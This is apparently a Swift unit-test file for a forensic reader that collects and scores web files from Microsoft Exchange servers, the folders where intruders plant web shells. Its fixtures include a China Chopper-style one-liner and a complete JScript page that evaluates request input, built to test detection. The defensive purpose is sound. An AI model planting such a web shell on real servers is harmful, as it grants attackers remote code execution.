import Foundation
import XCTest
@testable import ExchangeEvidence

final class CollectedWebFileReaderTests: XCTestCase {
    private func score(_ path: String, _ text: String = "x") -> Int {
        Array(text.utf8).withUnsafeBytes { CollectedWebFileReader().score(path: path, head: $0) }
    }

    /// An OAB virtual-directory export carrying the China Chopper one-liner, dropped in aspnet_client.
    func testCollectedWebShellIsOneEventWithContent() throws {
        let bytes = try Fixtures.bytes("Readers/oab-export-webshell.aspx")
        let path = "EX01/C/inetpub/wwwroot/aspnet_client/supp0rt.aspx"
        XCTAssertEqual(score(path), 60)
        let r = ReaderRun(CollectedWebFileReader(), path: path, bytes: bytes)
        XCTAssertEqual(r.output.kind, .webFile)
        XCTAssertEqual(r.count, 1)
        XCTAssertEqual(r.time(0), Timestamp.unknown)
        XCTAssertEqual(r.field("WebPath", 0), "/aspnet_client/supp0rt.aspx")
        XCTAssertEqual(r.value(.urlStem, 0), "/aspnet_client/supp0rt.aspx")
        XCTAssertEqual(r.field("Name", 0), "supp0rt.aspx")
        XCTAssertEqual(r.field("Size", 0), String(bytes.count))
        XCTAssertEqual(r.field("Content", 0), String(decoding: bytes, as: UTF8.self))
        XCTAssertTrue(r.field("Content", 0)?.contains(#"eval(Request["unsafe"],"unsafe")"#) ?? false)
        XCTAssertEqual(String(decoding: r.text, as: UTF8.self).split(separator: "\n").count, 1)
    }

    /// Paths: the watched folders and a compiled page score; logs, other folders and extensions do not.
    func testPathsDecide() {
        XCTAssertEqual(score("EX01/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/Current/one1.aspx"), 60)
        XCTAssertEqual(score(#"EX01\C\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\ecp\auth\TimeoutLogoff.aspx"#), 60)
        XCTAssertEqual(score("EX01/C/inetpub/wwwroot/aspnet_client/system_web/web.config"), 60)
        XCTAssertEqual(score("EX01/C/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/9c5e1f7a/App_Web_x3bxt2rb.dll"), 60)
        XCTAssertEqual(score("EX01/C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log"), 0)
        XCTAssertEqual(score("EX01/C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Owa/HttpProxy_2021030306-1.LOG"), 0)
        XCTAssertEqual(score("EX01/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/web.aspx"), 0)
        XCTAssertEqual(score("EX01/C/inetpub/wwwroot/aspnet_client/google.log"), 0)
        XCTAssertEqual(score("EX01/C/Windows/Temp/App_Web_x.dll"), 0)
    }

    /// A compiled page: one event, no content; a UTF-16 page is decoded.
    func testCompiledPageAndUTF16() {
        let dll = "EX01/C/Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/root/1a2b/3c4d/App_Web_ab12cd34.dll"
        let r = ReaderRun(CollectedWebFileReader(), path: dll, bytes: [0x4D, 0x5A, 0x90, 0, 3, 0, 0, 0])
        XCTAssertEqual(r.count, 1)
        XCTAssertEqual(r.field("Compiled", 0), "true")
        XCTAssertNil(r.field("Content", 0))
        XCTAssertEqual(r.value(.urlStem, 0), dll)

        var utf16: [UInt8] = [0xFF, 0xFE]
        for u in "<%@ Page Language=\"Jscript\"%>\r\n<%eval(Request.Item[\"x\"],\"unsafe\");%>".utf16 { utf16 += [UInt8(u & 0xFF), UInt8(u >> 8)] }
        let page = ReaderRun(CollectedWebFileReader(), path: "EX01/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/x.aspx", bytes: utf16)
        XCTAssertEqual(page.field("WebPath", 0), "/owa/auth/x.aspx")
        XCTAssertTrue(page.field("Content", 0)?.contains("eval(Request.Item[\"x\"],\"unsafe\")") ?? false)
    }
}
